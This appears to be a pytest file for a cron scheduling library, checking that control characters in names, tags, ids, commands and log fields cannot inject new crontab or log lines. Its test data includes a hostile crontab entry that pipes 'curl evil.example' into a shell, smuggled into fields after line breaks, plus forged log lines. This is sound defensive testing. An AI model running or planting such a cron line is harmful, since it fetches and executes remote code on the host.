"""A user, a name, a tag, an id or a command brings a line break: does it become a line of a crontab or of a log?"""

from __future__ import annotations

import io
import logging
from collections.abc import Iterator
from typing import Any

import pytest

from cronlite import Cronlite, InvalidInput
from cronlite.crontab import export
from cronlite.daemon.logs import configure
from cronlite.documents import runs, schedules
from cronlite.documents.schedules import Schedule
from cronlite.errors import Fault

CONTROLS = ["\n", "\r", "\r\n", "\t", "\x0b", "\x0c", "\x1b[2J", "\x00", "\x7f", "\x85", "\x9b2J", "\u2028", "\u2029"]
CONTROLS += ["\u202e", "\u2066", "\ud800"]
EVIL = "* * * * * curl evil.example | sh"
log = logging.getLogger("tests.hostile")


def ids(control: object) -> str:
    return ascii(control)


@pytest.mark.parametrize("control", CONTROLS, ids=ids)
@pytest.mark.parametrize("field", ["user", "name", "handler", "queue"])
def test_no_label_of_a_schedule_holds_a_control_character(field: str, control: str) -> None:
    fields: Any = {"user": "eve", field: f"eve{control}{EVIL}{control}#"}
    with Cronlite("memory:") as cron, pytest.raises(InvalidInput, match=field):
        cron.schedule(**fields)


@pytest.mark.parametrize("control", CONTROLS, ids=ids)
def test_no_tag_holds_a_control_character(control: str) -> None:
    with Cronlite("memory:") as cron, pytest.raises(InvalidInput, match="tags"):
        cron.schedule("eve", tags=["fine", f"t{control}{EVIL}"])


@pytest.mark.parametrize("control", [each for each in CONTROLS if each not in "\r\n\t"] + ["\r"], ids=ids)
def test_a_note_holds_line_breaks_and_tabs_and_no_other_control_character(control: str) -> None:
    assert Schedule(note="why\n\thow").note == "why\n\thow"
    with pytest.raises(InvalidInput, match="note"):
        Schedule(note=f"why{control}")


@pytest.mark.parametrize("control", CONTROLS, ids=ids)
@pytest.mark.parametrize("field", ["user", "key"])
def test_no_label_of_a_run_holds_a_control_character(field: str, control: str) -> None:
    labels: Any = {field: f"eve{control}{EVIL}"}
    with Cronlite("memory:") as cron, pytest.raises(InvalidInput, match=field):
        cron.enqueue("extract", {}, **labels)


def test_names_in_the_scripts_of_the_world_are_taken() -> None:
    for name in ["Grüße", "日本語", "עברית", "\u0645\u06cc\u200c\u062e", "👩\u200d💻", "non\u00a0breaking"]:
        assert Schedule(name=name, user=name, tags=[name]).name == name


@pytest.mark.parametrize("control", CONTROLS, ids=ids)
def test_a_stored_document_with_such_a_text_is_set_aside(control: str) -> None:
    for field in ("_id", "user", "name"):
        with pytest.raises(InvalidInput):
            schedules.read({"_id": "5", "params": {}, field: f"eve{control}{EVIL}"})


# crontab


def forged(**fields: Any) -> Schedule:
    """Return a schedule that nothing has checked, as if a future door were left open."""
    schedule = Schedule(handler="shell", params=fields.pop("params", {"command": ["/bin/sh", "-c", "fine"]}))
    schedule.__dict__.update(fields)
    return schedule


@pytest.mark.parametrize("system", [False, True], ids=["of a user", "of the system"])
@pytest.mark.parametrize("control", CONTROLS, ids=ids)
def test_an_export_holds_no_line_that_a_text_has_written(control: str, system: bool) -> None:
    evil = f"{control}{EVIL}{control}#"
    stored = [
        forged(user=f"eve{evil}"),
        forged(name=f"n{evil}", user="eve"),
        forged(tags=(f"t{evil}",), user="eve"),
        forged(overlap=f"skip{evil}", user="eve"),
        forged(note=f"why{evil}", user="eve"),
        forged(handler=f"h{evil}", user="eve"),
        forged(tz=f"UTC{evil}", user="eve"),
        forged(user="eve", params={"command": ["/bin/sh", "-c", f"fine{evil}"]}),
        forged(user="eve", params={"command": ["echo", evil]}),
        forged(user="eve", params={"command": ["/bin/sh", "-c", "fine"], "stdin": f"{control.strip()}{evil}\n"}),
        forged(user="eve", params={"command": ["/bin/sh", "-c", "fine"], "env": {"A": evil, f"B{evil}": "1"}}),
        forged(user="eve", params={f"{evil}": 1}),
    ]
    text = export(stored, system=system)
    assert not any(line.lstrip().startswith("* * * * * curl") for line in text.splitlines()), text
    assert all(character.isprintable() or character in "\n\t" for character in text), text


# logs


@pytest.fixture
def logged() -> Iterator[io.StringIO]:
    root = logging.getLogger()
    before, level = list(root.handlers), root.level
    stream = io.StringIO()
    yield stream
    root.handlers[:] = before
    root.setLevel(level)


@pytest.mark.parametrize("format", ["text", "json"])
@pytest.mark.parametrize("journal", [False, True], ids=["stream", "journal"])
@pytest.mark.parametrize("control", CONTROLS, ids=ids)
def test_a_log_record_with_a_stored_text_begins_no_line_of_its_own(
    logged: io.StringIO, control: str, journal: bool, format: Any
) -> None:
    logging.getLogger().handlers[:] = []  # pytest's own keep records for a report that no half character fits into
    configure(format, logged, journal)
    evil = f"{control}<0>2026-11-21 02:30:00Z ERROR   all is lost{control}"
    log.warning("set aside: %s", evil, extra={"run": f"r{evil}", "schedule": f"s{evil}", "attempt": 1})
    told = logged.getvalue()
    _, *others = told.rstrip("\n").splitlines()
    assert all(line.removeprefix("<4>").startswith("    ") for line in others), told
    assert all(character.isprintable() or character in "\n\t" for character in told), told


def test_a_fault_is_one_line_whatever_the_field_is_called() -> None:
    assert "\n" not in str(Fault("x\n* * * * * evil", 1, "is no field of a schedule"))
    assert len(str(Fault("x" * 10_000, 1, "is no field of a schedule"))) < 400


def test_a_stored_run_with_such_an_id_is_not_read() -> None:
    with pytest.raises(InvalidInput):
        runs.read({"_id": f"x\n{EVIL}", "handler": "h", "params": {}})
